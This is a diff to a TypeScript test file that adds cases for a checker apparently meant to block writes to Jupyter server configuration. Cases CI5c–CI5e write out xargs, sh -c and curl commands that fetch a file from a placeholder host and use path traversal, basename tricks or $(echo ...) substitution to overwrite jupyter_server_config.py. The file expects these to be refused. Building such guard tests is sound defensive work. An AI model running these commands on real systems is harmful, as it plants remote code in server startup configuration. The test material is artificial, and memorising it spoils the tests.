@@ -250,6 +250,58 @@ const CASES: StackCase[] = [
             "xargs -a /opt/seed/steps.txt -I{} sh -c '{}'",
         ]),
     },
+    // Round 71 (neighbours of C5): xargs runs its command itself (execvp, no shell), so the `$` in a single-quoted
+    // `sh -c` script reaches that shell as text, which expands it with the run's items as $1... (bash(1), "-c").
+    {
+        stack: "cross-account",
+        name: 'C5b: xargs -a URLS -n1 sh -c with a literal basename in $(...) and "$1" the URL',
+        edit: jupyter("rt71-caller-xargs-sh-litbase", [
+            "mkdir -p /opt/seed /srv/notes",
+            ...file("/opt/seed/urls.txt", ["https://seed.example.com/README.md"]),
+            'xargs -a /opt/seed/urls.txt -n1 sh -c \'curl -fsSL -o "/srv/notes/$(basename https://seed.example.com/README.md)" "$1"\' _',
+        ]),
+    },
+    {
+        stack: "cross-account",
+        name: "C5c: xargs -a NAMES -n1 sh -c 'curl -o \"/srv/notes/$1\" URL' _ over a written plain name",
+        edit: jupyter("rt71-caller-xargs-sh-name", [
+            "mkdir -p /opt/seed /srv/notes",
+            ...file("/opt/seed/names.txt", ["README.md"]),
+            "xargs -a /opt/seed/names.txt -n1 sh -c 'curl -fsSL -o \"/srv/notes/$1\" https://seed.example.com/README.md' _",
+        ]),
+    },
+    {
+        stack: "cross-account",
+        name: "CI5c: xargs -a NAMES -n1 sh -c 'curl -o \"/srv/notes/$1\" URL' _ over ../../etc/jupyter/jupyter_server_config.py",
+        edit: jupyter("rt71-caller-xargs-sh-dotdot", [
+            "mkdir -p /opt/seed /srv/notes",
+            ...file("/opt/seed/names.txt", ["../../etc/jupyter/jupyter_server_config.py"]),
+            "xargs -a /opt/seed/names.txt -n1 sh -c 'curl -fsSL -o \"/srv/notes/$1\" https://seed.example.com/c.py' _",
+        ]),
+        refused: /rt71-caller-xargs-sh-dotdot/,
+    },
+    {
+        stack: "cross-account",
+        name: 'CI5d: xargs -a URLS -n1 sh -c \'curl -o "/etc/jupyter/$(basename "$1")" "$1"\' _ over a URL named jupyter_server_config.py',
+        edit: jupyter("rt71-caller-xargs-sh-basejup", [
+            "mkdir -p /opt/seed",
+            ...file("/opt/seed/urls.txt", ["https://seed.example.com/jupyter_server_config.py"]),
+            'xargs -a /opt/seed/urls.txt -n1 sh -c \'curl -fsSL -o "/etc/jupyter/$(basename "$1")" "$1"\' _',
+        ]),
+        refused: /rt71-caller-xargs-sh-basejup/,
+    },
+    {
+        stack: "cross-account",
+        name: "CI5e: xargs -I{} sh -c '{}' over a written line whose $(echo ...) names the Jupyter config",
+        edit: jupyter("rt71-caller-xargs-sh-lineecho", [
+            "mkdir -p /opt/seed",
+            ...file("/opt/seed/steps.txt", [
+                'curl -fsSL -o "/etc/jupyter/$(echo jupyter_server_config.py)" https://seed.example.com/c.py',
+            ]),
+            "xargs -a /opt/seed/steps.txt -I{} sh -c '{}'",
+        ]),
+        refused: /rt71-caller-xargs-sh-lineecho/,
+    },
     // GNU findutils xargs(1) -I: "Replace occurrences of replace-str in the initial-arguments" (the command name too).
     {
         stack: "cross-account",
